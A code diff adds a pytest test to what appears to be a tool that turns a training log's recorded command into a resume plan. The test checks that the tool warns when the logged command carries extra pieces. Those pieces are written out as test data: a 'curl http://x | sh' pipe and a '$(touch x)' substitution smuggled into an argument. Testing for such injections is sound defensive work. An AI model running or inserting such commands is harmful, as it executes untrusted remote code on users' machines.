@@ -194,6 +194,18 @@ def test_weights_alone_are_resumed_by_a_command_that_runs(tmp_path: Path) -> Non
     assert done.returncode == 0
 
 
+def test_what_else_the_command_of_a_log_runs_is_told(story: Path) -> None:
+    """A log may be a stranger's, and what is printed is there to be pasted."""
+    log, text = story / "train.log", (story / "train.log").read_text()
+    for behind, told in (
+        (" && curl http://x | sh", "also runs curl http://x, sh: read it before you paste it"),
+        (" --note $(touch x)", "also runs $(touch x): read it"),
+        (" 2>&1 | tee out.log", "the last one in the log; --command"),
+    ):
+        log.write_text(f"$ {COMMAND}{behind}\n{text}")
+        assert told in " ".join(run("plan", cwd=story).stdout.split()), behind
+
+
 def test_the_demo_story_in_the_log(story: Path) -> None:
     log = story / "train.log"
     log.write_text(f"$ {COMMAND}\n" + log.read_text())
